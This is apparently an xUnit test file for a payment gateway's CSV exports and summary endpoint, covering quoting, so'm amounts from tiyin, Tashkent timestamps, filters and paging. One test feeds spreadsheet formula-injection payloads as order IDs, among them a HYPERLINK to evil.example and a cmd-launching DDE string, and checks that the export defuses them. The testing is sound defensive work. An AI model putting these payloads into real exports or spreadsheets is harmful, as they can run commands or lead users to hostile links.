using System.Globalization;
using System.Net;
using System.Text.Json;
using Microsoft.Extensions.DependencyInjection;
using Paycue.Gateway.Exports;
using Paycue.Grains.Interfaces;
using Paycue.Grains.Ledger;

namespace Paycue.Gateway.Tests;

public sealed class MemoryExportHttpTests(MemoryOrderFieldsFixture fixture) : ExportHttpTests(fixture), IClassFixture<MemoryOrderFieldsFixture>;

public sealed class RedisExportHttpTests(RedisOrderFieldsFixture fixture) : ExportHttpTests(fixture), IClassFixture<RedisOrderFieldsFixture>;

/// <summary>
/// The CSV exports and the summary over real HTTP, read back with a strict RFC 4180 reader: header, quoting, so'm with two decimals
/// from tiyin, times in Asia/Tashkent, the filters, and paging across many rows that share milliseconds.
/// </summary>
public abstract class ExportHttpTests(OrderFieldsFixture fixture)
{
    private readonly HttpClient api = fixture.App.Authorized();

    private static List<Dictionary<string, string>> Parse(string csv, out string[] header)
    {
        var records = Rfc4180Reader.Read(csv);
        header = records[0];
        var names = header;
        Assert.All(records, r => Assert.Equal(names.Length, r.Length));
        return records.Skip(1).Select(r => names.Select((n, i) => (n, r[i])).ToDictionary(x => x.n, x => x.Item2)).ToList();
    }

    private async Task<string> CsvAsync(string path)
    {
        var response = await api.GetAsync(path);
        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        Assert.Equal("text/csv", response.Content.Headers.ContentType!.MediaType);
        Assert.Equal("utf-8", response.Content.Headers.ContentType.CharSet);
        var bytes = await response.Content.ReadAsByteArrayAsync();
        Assert.False(bytes.Length >= 3 && bytes[0] == 0xEF, "no byte order mark");
        return System.Text.Encoding.UTF8.GetString(bytes);
    }

    private async Task<JsonElement> PostAsync(string path, object body) =>
        await PaycueApp.DataAsync(await api.PostAsync(path, PaycueApp.Json(JsonSerializer.Serialize(body))));

    [Fact]
    public async Task ExportsAndSummaryOfOneCardsDayReadBackExactly()
    {
        var since = DateTimeOffset.UtcNow.AddSeconds(-1);
        var sinceText = Uri.EscapeDataString(since.ToString("O"));
        var orderId = "ord,\"1\" Тошкент";
        var paid = await PostAsync("/api/transactions", new { amount = 41_000, card_id = "sandbox-2", order_id = orderId, metadata = new { n = "a,b" } });
        var cancelled = await PostAsync("/api/transactions", new { amount = 42_000, card_id = "sandbox-2" });
        var open = await PostAsync("/api/transactions", new { amount = 43_000, card_id = "sandbox-2", order_id = "open-1" });
        await PostAsync("/api/sandbox/payments", new { card_id = "sandbox-2", amount = paid.GetProperty("amount").GetInt64() });
        await api.DeleteAsync($"/api/transactions/{cancelled.GetProperty("transaction_id").GetString()}");
        var stray = await PostAsync("/api/sandbox/payments", new { card_id = "sandbox-2", amount = 123.45m });
        Assert.False(stray.GetProperty("matched").GetBoolean());

        var transactions = Parse(await CsvAsync($"/api/transactions.csv?since={sinceText}&card_id=sandbox-2"), out var header);
        Assert.Equal(["transaction_id", "order_id", "card_id", "state", "amount", "requested_amount", "created_at", "expires_at", "confirmed_at", "cancelled_at",
            "cancel_reason", "payment_message_id", "return_url", "metadata"], header);
        Assert.Equal(3, transactions.Count);
        var paidRow = transactions.Single(r => r["transaction_id"] == paid.GetProperty("transaction_id").GetString());
        Assert.Equal(orderId, paidRow["order_id"]);
        Assert.Equal("confirmed", paidRow["state"]);
        Assert.Equal("41000.00", paidRow["amount"]);
        Assert.Equal("{\"n\":\"a,b\"}", paidRow["metadata"]);
        Assert.EndsWith("+05:00", paidRow["created_at"]);
        Assert.Equal(paid.GetProperty("created_at").GetDateTimeOffset().ToUnixTimeMilliseconds(), DateTimeOffset.Parse(paidRow["created_at"], CultureInfo.InvariantCulture).ToUnixTimeMilliseconds());
        Assert.NotEqual("", paidRow["confirmed_at"]);
        Assert.Equal("open-1", transactions.Single(r => r["state"] == "active")["order_id"]);
        Assert.Equal("cancelled_by_merchant", transactions.Single(r => r["state"] == "cancelled")["cancel_reason"]);
        Assert.Single(Parse(await CsvAsync($"/api/transactions.csv?since={sinceText}&card_id=sandbox-2&state=active"), out _));
        Assert.Equal(open.GetProperty("transaction_id").GetString(), Parse(await CsvAsync($"/api/transactions.csv?since={sinceText}&card_id=sandbox-2&status=active"), out _)[0]["transaction_id"]);

        var payments = Parse(await CsvAsync($"/api/payments.csv?since={sinceText}&card_id=sandbox-2"), out var paymentHeader);
        Assert.Equal("payment_id", paymentHeader[0]);
        Assert.Equal(2, payments.Count);
        var strayRow = Assert.Single(Parse(await CsvAsync($"/api/payments.csv?since={sinceText}&card_id=sandbox-2&status=unmatched"), out _));
        Assert.Equal("123.45", strayRow["amount"]);
        Assert.Equal("no_open_transaction", strayRow["outcome"]);
        Assert.Equal(orderId, payments.Single(r => r["status"] == "matched")["order_id"]);

        var summary = await PaycueApp.DataAsync(await api.GetAsync($"/api/summary?since={sinceText}"));
        var card = summary.GetProperty("cards").EnumerateArray().Single(c => c.GetProperty("card_id").GetString() == "sandbox-2").GetProperty("figures");
        Assert.Equal(3, card.GetProperty("transactions_created").GetInt64());
        Assert.Equal(1, card.GetProperty("transactions_confirmed").GetInt64());
        Assert.Equal(1, card.GetProperty("transactions_cancelled").GetInt64());
        Assert.Equal(paid.GetProperty("amount").GetInt64() * 100, card.GetProperty("amount_confirmed_tiyin").GetInt64());
        Assert.Equal(1, card.GetProperty("unmatched_credits").GetInt64());
        Assert.Equal(12_345, card.GetProperty("unmatched_amount_tiyin").GetInt64());
        Assert.True(card.GetProperty("average_seconds_to_pay").GetInt64() >= 0);
        Assert.True(summary.GetProperty("total").GetProperty("transactions_created").GetInt64() >= 3);
    }

    [Fact]
    public async Task PaymentsExportPagesThroughRowsSharingMillisecondsWithoutLosingOrRepeatingAny()
    {
        // 1,234 ledger rows, 7 to a millisecond, so several page boundaries (500 rows) fall inside one millisecond.
        var ledger = fixture.App.Services.GetRequiredService<ILedgerStore>();
        var card = $"bulk-{Guid.NewGuid():N}"[..20];
        var start = DateTimeOffset.UtcNow.AddMinutes(-10);
        var ids = new HashSet<string>();
        for (var i = 0; i < 1234; i++)
        {
            var id = $"{card}:1:{i}";
            ids.Add(id);
            await ledger.RecordPaymentAsync(new PaymentRecord(id, card, i, 100 + i, "UZS", start.AddMilliseconds(i / 7), null, "humo", MatchOutcomes.NoOpenTransaction, null));
        }

        var rows = Parse(await CsvAsync($"/api/payments.csv?card_id={card}"), out _);
        Assert.Equal(1234, rows.Count);
        Assert.True(ids.SetEquals(rows.Select(r => r["payment_id"])));
        Assert.Equal("1.01", rows.Single(r => r["payment_id"] == $"{card}:1:1")["amount"]);

        var before = Uri.EscapeDataString(start.AddMilliseconds(100).ToString("O"));
        Assert.Equal(700, Parse(await CsvAsync($"/api/payments.csv?card_id={card}&before={before}"), out _).Count);
    }

    [Fact]
    public async Task OrderIdsThatASpreadsheetWouldRunAsFormulasAreExportedAsTextAndAmountsStayNumbers()
    {
        var since = Uri.EscapeDataString(DateTimeOffset.UtcNow.AddSeconds(-1).ToString("O"));
        var hostile = new[] { "=HYPERLINK(\"http://evil.example/?x\",\"open\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)" };
        var ids = new Dictionary<string, string>();
        foreach (var orderId in hostile)
        {
            var created = await PostAsync("/api/transactions", new { amount = 44_000, card_id = "sandbox-1", order_id = orderId });
            ids[created.GetProperty("transaction_id").GetString()!] = orderId;
            await PostAsync("/api/sandbox/payments", new { card_id = "sandbox-1", amount = created.GetProperty("amount").GetInt64() });
        }

        var text = await CsvAsync($"/api/transactions.csv?since={since}&card_id=sandbox-1");
        var rows = Parse(text, out _).Where(r => ids.ContainsKey(r["transaction_id"])).ToList();
        Assert.Equal(hostile.Length, rows.Count);
        Assert.All(rows, r =>
        {
            Assert.Equal("'" + ids[r["transaction_id"]], r["order_id"]);
            Assert.Matches(@"^44\d{3}\.00$", r["amount"]);
        });
        Assert.Contains("\"'=HYPERLINK(\"\"http://evil.example/?x\"\",\"\"open\"\")\"", text, StringComparison.Ordinal);
        Assert.DoesNotContain(",=", text, StringComparison.Ordinal);
        Assert.DoesNotContain(",\"=", text, StringComparison.Ordinal);

        var payments = Parse(await CsvAsync($"/api/payments.csv?since={since}&card_id=sandbox-1&status=matched"), out _)
            .Where(r => r["transaction_id"] is { Length: > 0 } t && ids.ContainsKey(t)).ToList();
        Assert.Equal(hostile.Length, payments.Count);
        Assert.All(payments, r => Assert.Equal("'" + ids[r["transaction_id"]], r["order_id"]));
    }

    [Theory]
    [InlineData("=1+1", "\"'=1+1\"")]
    [InlineData("+998901234567", "\"'+998901234567\"")]
    [InlineData("-5", "\"'-5\"")]
    [InlineData("@me", "\"'@me\"")]
    [InlineData("\tx", "\"'\tx\"")]
    [InlineData("\rx", "\"'\rx\"")]
    [InlineData("=a,\"b\"", "\"'=a,\"\"b\"\"\"")]
    [InlineData("a=1", "a=1")]
    [InlineData("order-1", "order-1")]
    [InlineData("a,b", "\"a,b\"")]
    public void TextCellsStartingAsAFormulaAreQuotedWithALeadingApostrophe(string field, string expected)
    {
        var writer = new StringWriter();
        Csv.WriteRow(writer, field);
        Assert.Equal(expected + "\r\n", writer.ToString());
    }

    [Fact]
    public void NumberColumnsAreWrittenPlainEvenWithASign()
    {
        var writer = new StringWriter();
        Csv.WriteRow(writer, ["-1.99", "-1.99", "=x"], [true, false, true]);
        Assert.Equal("-1.99,\"'-1.99\",=x\r\n", writer.ToString());
    }

    [Theory]
    [InlineData("/api/payments.csv?status=odd", "status must be all, matched or unmatched")]
    [InlineData("/api/payments.csv?since=yesterday", "since must be a time such as")]
    [InlineData("/api/transactions.csv?state=paid", "state must be all, active, confirmed or cancelled")]
    [InlineData("/api/transactions.csv?card_id=bad%20id", "card_id is malformed")]
    [InlineData("/api/summary?since=soon", "since must be a time such as")]
    public async Task BadExportFiltersAreRefusedWithWhatToFix(string path, string expected)
    {
        var response = await api.GetAsync(path);
        Assert.Equal(HttpStatusCode.BadRequest, response.StatusCode);
        Assert.Contains(expected, await PaycueApp.DetailAsync(response));
    }

    [Theory]
    [InlineData(0, "0.00")]
    [InlineData(5, "0.05")]
    [InlineData(12_345, "123.45")]
    [InlineData(2_000_000, "20000.00")]
    [InlineData(-199, "-1.99")]
    [InlineData(long.MaxValue, "92233720368547758.07")]
    [InlineData(long.MinValue, "-92233720368547758.08")]
    public void SomHasTwoDecimalsFromIntegerTiyin(long tiyin, string expected) => Assert.Equal(expected, Csv.Som(tiyin));
}
